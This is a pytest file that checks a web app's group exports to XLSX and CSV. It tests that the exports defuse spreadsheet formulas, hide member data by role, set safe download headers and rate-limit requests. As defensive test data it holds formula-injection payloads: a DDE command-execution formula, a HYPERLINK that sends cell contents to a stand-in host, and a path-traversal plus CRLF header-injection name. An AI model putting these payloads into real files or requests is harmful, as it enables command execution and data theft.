"""Files of a group: what they hold for whom, and that nothing in them can run."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import timedelta
from xml.etree import ElementTree

import httpx
import pytest

from bot.core.group import GroupId
from bot.web.spreadsheet import Row, Sheet, csv_file, harmless, xlsx
from tests.web.classroom import Classroom, SignedIn

SPREADSHEET = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://jahat.test?x="&A1,"klik")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    " =1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "\u00a0=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
)
STARTERS = set("=+-@＝＋－＠\t\r\n\0")


def read_xlsx(content: bytes) -> dict[str, list[list[str]]]:
    """Return the texts of a workbook, sheet by sheet; numbers as they are written."""
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        shared = (
            ["".join(part.itertext()) for part in ElementTree.fromstring(book.read("xl/sharedStrings.xml"))]
            if "xl/sharedStrings.xml" in book.namelist()
            else []
        )
        names = [
            sheet.attrib["name"]
            for sheet in ElementTree.fromstring(book.read("xl/workbook.xml")).iter(f"{SPREADSHEET}sheet")
        ]
        return {name: _rows(book.read(f"xl/worksheets/sheet{n}.xml"), shared) for n, name in enumerate(names, start=1)}


def _rows(sheet: bytes, shared: list[str]) -> list[list[str]]:
    rows = []
    for row in ElementTree.fromstring(sheet).iter(f"{SPREADSHEET}row"):
        cells = []
        for cell in row.iter(f"{SPREADSHEET}c"):
            said = "".join(cell.itertext())
            cells.append(shared[int(said)] if cell.attrib.get("t") == "s" else said)
        rows.append(cells)
    return rows


def read_csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), strict=True))


@pytest.mark.parametrize("text", FORMULAS)
def test_text_that_begins_a_formula_is_defused(text: str) -> None:
    found = harmless(text)

    assert isinstance(found, str)
    assert found[0] == "'"
    assert found[1:] in text


@pytest.mark.parametrize("text", ["Sari", "Bu = Sari", "a-b", "Sari\nDewi", "王小明", "😀", "", "'=1"])
def test_other_text_stays(text: str) -> None:
    assert harmless(text) == text.replace("\n", " ")


def test_workbook_holds_no_formula_and_no_link() -> None:
    content = xlsx([Sheet("Satu", [["Nama"], *([text] for text in FORMULAS), ["https://jahat.test"], ["mailto:a@b"]])])

    with zipfile.ZipFile(io.BytesIO(content)) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
        files = book.namelist()
    rows = read_xlsx(content)["Satu"]
    assert re.findall(r"<f[ >]|<hyperlink|t=\"str\"", sheet) == []
    assert [name for name in files if "_rels/sheet" in name or "externalLink" in name] == []
    assert [row[0][:1] in STARTERS for row in rows] == [False] * len(rows)
    assert rows[-2:] == [["https://jahat.test"], ["mailto:a@b"]]


def test_csv_follows_the_standard() -> None:
    rows: list[Row] = [(text, 1) for text in FORMULAS]

    content = csv_file([("Nama", "Jumlah"), ('Sari "Toko", Jaya', 3), *rows])

    assert content.startswith('\ufeff"Nama","Jumlah"\r\n"Sari ""Toko"", Jaya",3\r\n'.encode())
    assert content.replace(b"\r\n", b"").count(b"\n") == 0
    assert [row[0][:1] in STARTERS for row in read_csv(content)] == [False] * (2 + len(FORMULAS))


def exported(browser: SignedIn, group: GroupId, kind: str) -> httpx.Response:
    return browser.get(f"/kelompok/{group}/ekspor.{kind}")


def test_coach_gets_who_shares_with_names_defused(room: Classroom) -> None:
    group = room.opens_group('=cmd|"Pasar"')
    room.fills(group, 14, nameless_every=7, names=lambda n: "Rahasia" if n % 7 == 6 else f"=HYPERLINK({n})")
    browser = room.signs_in(room.joko)

    book, table = exported(browser, group, "xlsx"), exported(browser, group, "csv")

    sheets = read_xlsx(book.content)
    rows = read_csv(table.content)
    assert list(sheets) == ["Anggota", "Jumlah", "Keterangan"]
    assert [row[0] for row in sheets["Anggota"]] == [
        "Nama",
        *sorted(f"'=HYPERLINK({n})" for n in range(14) if n % 7 != 6),
    ]
    assert [row[:2] for row in rows] == [row[:2] for row in sheets["Anggota"]]
    assert {len(row) for row in rows} == {24}
    assert sheets["Keterangan"][1] == ["Kelompok", '\'=cmd|"Pasar"']
    assert b"Rahasia" not in table.content
    assert "Rahasia" not in str(sheets)
    assert re.findall(r"\b1000\d\d\b", table.text + str(sheets)) == []


def test_file_is_handed_out_safely(room: Classroom) -> None:
    group = room.opens_group('../"x\r\nSet-Cookie: a=b')
    browser = room.signs_in(room.joko)

    book, table = exported(browser, group, "xlsx"), exported(browser, group, "csv")

    assert book.headers["content-disposition"] == f'attachment; filename="kelompok-{group}-2026-11-24.xlsx"'
    assert table.headers["content-disposition"] == f'attachment; filename="kelompok-{group}-2026-11-24.csv"'
    assert table.headers["content-type"] == "text/csv; charset=utf-8"
    assert book.headers["x-content-type-options"] == "nosniff"
    assert book.headers["cache-control"] == "no-store"


def test_admin_gets_sums_and_no_member(room: Classroom) -> None:
    group = room.opens_group()
    room.fills(group, 12, unfinished_every=0)
    browser = room.signs_in(room.admin)

    book, table = exported(browser, group, "xlsx"), exported(browser, group, "csv")

    sheets = read_xlsx(book.content)
    rows = read_csv(table.content)
    assert list(sheets) == ["Jumlah", "Keterangan"]
    assert rows[:4] == [
        ["Perjalanan", "Anggota"],
        ["Diundang", "12"],
        ["Mulai asesmen", "12"],
        ["Selesai asesmen", "12"],
    ]
    assert "Sari" not in table.text + str(sheets)


def test_few_results_are_not_summed_up(room: Classroom) -> None:
    group = room.opens_group()
    room.fills(group, 4, unfinished_every=0)

    sheets = read_xlsx(exported(room.signs_in(room.joko), group, "xlsx").content)

    assert [row[0] for row in sheets["Jumlah"]] == [
        *("Perjalanan", "Diundang", "Mulai asesmen", "Selesai asesmen"),
        *("Buka pelajaran", "Praktik di usaha", "Asesmen ulang"),
    ]


def test_exports_of_one_person_are_limited(room: Classroom) -> None:
    group = room.opens_group()
    browser = room.signs_in(room.joko)

    answers = [exported(browser, group, "csv").status_code for _ in range(11)]
    of_another = exported(room.signs_in(room.admin), group, "csv").status_code
    room.world.now += timedelta(minutes=10)
    later = exported(browser, group, "csv").status_code

    assert answers == [200] * 10 + [429]
    assert of_another == 200
    assert later == 200
